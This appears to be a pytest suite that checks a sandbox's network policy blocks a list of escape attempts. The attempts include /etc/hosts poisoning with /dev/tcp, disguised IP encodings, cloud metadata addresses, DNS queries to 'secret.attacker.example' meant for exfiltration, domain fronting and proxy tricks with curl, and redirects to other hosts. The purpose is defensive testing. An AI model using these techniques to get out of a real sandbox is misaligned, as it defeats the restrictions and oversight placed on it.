"""Known ways around network policies, from inside. Each of them must fail."""
import https
import pytest

from dns import NameServer
from test_broker import ORIGIN, PRIVATE_HOST, Origin
from test_guest import image, python, shell  # noqa: F401
from test_programs import make_keys, start_server  # noqa: F401

OTHER = "203.0.113.11"
TRY = """
import socket, struct
def attempt(address, family=socket.AF_INET, data=b""):
    try:
        with socket.socket(family) as s:
            s.connect(address)
            s.sendall(data)
            print("got", s.recv(6))
    except OSError as e:
        print(e.errno)
"""


@pytest.fixture(name="hosts")
def start_hosts():
    """Two hosts that no rule allows, with the ports of the one that a rule does."""
    names = NameServer({"web.example": [ORIGIN], "other.example": [OTHER], "inner.example": [PRIVATE_HOST]})
    origins = [Origin(host, 8080) for host in (ORIGIN, OTHER, PRIVATE_HOST, "127.0.0.1")]
    yield names
    for origin in origins:
        origin.close()
    names.close()


def test_the_hosts_file_does_not_carry_rights(hosts):
    r = shell(f"echo {PRIVATE_HOST} web.example | sudo tee -a /etc/hosts >/dev/null\n"
              "exec 3<>/dev/tcp/web.example/8080; read -r x <&3; echo got=$x", "web.example:8080+private")
    assert r.stdout == "got=\n" and "Permission denied" in r.stderr, r.stderr


def test_addresses_in_other_forms_are_the_same_addresses(hosts):
    r = python(TRY + """
for text in "10.5", "0xa.0.0.5", "167772165", "012.0.0.5":
    attempt((text, 8080))
for text in "::ffff:10.0.0.5", "::ffff:0a00:0005":
    attempt((text, 8080), socket.AF_INET6)
for text in "::10.0.0.5", "64:ff9b::a00:5", "2002:a00:5::", "fd00:ec2::254":
    attempt((text, 8080), socket.AF_INET6)
""", "web.example:8080+private", "public:*")
    assert r.stdout.split() == ["13"] * 6 + ["97"] * 4, r.stdout + r.stderr


def test_the_loopback_of_the_host_is_not_that_of_the_sandbox(hosts):
    r = python(TRY + """
for text in "127.0.0.1", "127.1", "2130706433", "0x7f.1", "0.0.0.0":
    attempt((text, 8080))
attempt(("::1", 8080), socket.AF_INET6)
""", "web.example:8080+private", "public:*")
    assert r.stdout.split() == ["111"] * 6, r.stdout + r.stderr


def test_metadata_services_are_closed(hosts):
    r = python(TRY + """
for text in "169.254.169.254", "100.100.100.200", "168.63.129.16", "169.254.170.2":
    attempt((text, 80))
""", "public:*", "169.254.0.0/16:*", "100.64.0.0/10:*")
    assert r.stdout.split() == ["13"] * 4, r.stdout + r.stderr


def test_only_addresses_are_answered_by_the_name_server(hosts):
    """HTTPS records would hide names, TXT records and the like carry data."""
    r = python(TRY + """
def ask(name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    s.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1), ("192.0.2.1", 53))
    return struct.unpack("!6H", s.recv(512)[:12])[3]
print([ask("web.example", kind) for kind in (1, 28, 65, 64, 16, 15, 5, 255)])
print(ask("secret.attacker.example", 1), ask("secret.attacker.example", 16))
""", "web.example:8080+private")
    assert r.stdout == "[1, 0, 0, 0, 0, 0, 0, 0]\n1 0\n", r.stdout + r.stderr
    assert set(hosts.asked) <= {"web.example"}


def test_another_name_server_is_not_reached(hosts):
    r = python(TRY + """
for to in ("192.0.2.53", 53), ("8.8.8.8", 53), ("203.0.113.10", 443):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"x", to)
    except OSError as e:
        print(e.errno)
attempt(("192.0.2.53", 53))
""", "web.example:*+private")
    assert r.stdout.split() == ["13"] * 4, r.stdout + r.stderr
    assert hosts.asked == []


def test_an_allowed_name_at_the_address_of_another_host(hosts):
    """The guest chooses the address, and claims the allowed name."""
    r = python(TRY + f"""
attempt(("{OTHER}", 8080), data=b"GET / HTTP/1.1\\r\\nHost: web.example\\r\\n\\r\\n")
""", "web.example:8080+private")
    assert r.stdout == "13\n", r.stdout + r.stderr


@pytest.mark.parametrize("command", [
    "curl -sSk --connect-to other.example:443:web.example:443 https://other.example/hello",
    "curl -sSk -x http://web.example:443 http://other.example/hello",
    "curl -sSk -p -x http://web.example:443 https://other.example/hello",
    "curl -sS http://web.example:443/hello",
    "openssl s_client -quiet -noservername -connect web.example:443 </dev/null"])
def test_another_name_at_the_allowed_host(server, command):
    """One host serves several names (fronting), or is a proxy."""
    r = shell(command, "web.example:443+private")
    assert r.returncode != 0 and "hello" not in r.stdout, r.stdout
    allowed = shell("curl -sSk https://web.example/hello", "web.example:443+private")
    assert allowed.stdout == "hello\n", allowed.stderr


def test_a_redirect_is_a_decision_of_its_own(server):
    server.redirects["/away"] = "https://index.example/hello"
    server.redirects["/home"] = "https://web.example/hello"
    r = shell("curl -sSkL https://web.example/home; curl -sSkL https://web.example/away", "web.example:443+private")
    assert r.stdout == "hello\n" and "index.example" in r.stderr, r.stderr
    assert https.HOSTS[1] == "index.example"
